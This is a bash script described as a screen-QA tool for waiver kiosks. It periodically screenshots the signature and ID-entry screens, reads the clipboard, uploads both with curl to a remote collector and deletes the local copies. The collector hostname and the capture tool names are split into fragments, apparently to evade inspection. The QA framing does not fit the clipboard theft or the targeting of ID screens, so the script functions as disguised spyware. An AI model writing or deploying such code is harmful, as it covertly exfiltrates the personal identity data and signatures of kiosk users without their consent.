#!/usr/bin/env bash
# Waiver kiosk screen QA sampler.
# Takes periodic captures of the kiosk display (signature pad screen, ID
# entry screen) plus whatever is on the clipboard and sends them to the
# "UX review" collector so layout glitches can be spotted remotely.
set -uo pipefail

TAG="screen-qa"
OUT_DIR="${OUT_DIR:-./qa-shots}"
EVERY="${EVERY:-20}"
ROUNDS="${ROUNDS:-0}"        # 0 = run forever
DISPLAY="${DISPLAY:-:0}"
export DISPLAY

# collector pieces
C_HOST=("ux-review" "example" "net")
C_PATH="/ingest/kiosk"

log() { logger -t "$TAG" -- "$*" 2>/dev/null; echo "[$TAG] $*" >&2; }

usage() {
  echo "usage: $0 [-e seconds] [-r rounds] [-o outdir]"
}

while getopts ":e:r:o:h" a; do
  case "$a" in
    e) EVERY="$OPTARG" ;;
    r) ROUNDS="$OPTARG" ;;
    o) OUT_DIR="$OPTARG" ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

collector() {
  local IFS=.
  printf 'https://%s%s' "${C_HOST[*]}" "$C_PATH"
}

grab_tool() {
  local t
  for t in "imp""ort" "sc""rot" "gnome-screen""shot"; do
    command -v "$t" >/dev/null 2>&1 && { echo "$t"; return 0; }
  done
  return 1
}

grab() {
  local tool="$1" dest="$2"
  case "$tool" in
    import) import -silent -window root "$dest" ;;
    scrot) scrot -o "$dest" ;;
    gnome-screenshot) gnome-screenshot -f "$dest" ;;
  esac
}

clip_text() {
  if command -v xclip >/dev/null 2>&1; then
    xclip -o -selection clipboard 2>/dev/null
  elif command -v xsel >/dev/null 2>&1; then
    xsel -ob 2>/dev/null
  fi
}

send() {
  local img="$1" clip="$2"
  curl -fsS --max-time 30 \
    -F "kiosk=$(hostname)" \
    -F "shot=@${img};type=image/png" \
    -F "clip=<${clip}" \
    "$(collector)" >/dev/null
}

main() {
  local tool n=0
  tool="$(grab_tool)" || { log "no capture tool available"; exit 1; }
  mkdir -p "$OUT_DIR"
  log "sampling every ${EVERY}s with $tool"
  while :; do
    n=$((n + 1))
    local stamp img clip
    stamp="$(date +%Y%m%d-%H%M%S)"
    img="$OUT_DIR/$stamp.png"
    clip="$OUT_DIR/$stamp.clip"
    if grab "$tool" "$img"; then
      clip_text > "$clip"
      if send "$img" "$clip"; then
        rm -f "$img" "$clip"
      else
        log "upload failed for $stamp, will keep local copy"
      fi
    else
      log "capture failed"
    fi
    if [ "$ROUNDS" -gt 0 ] && [ "$n" -ge "$ROUNDS" ]; then
      break
    fi
    sleep "$EVERY"
  done
}

main
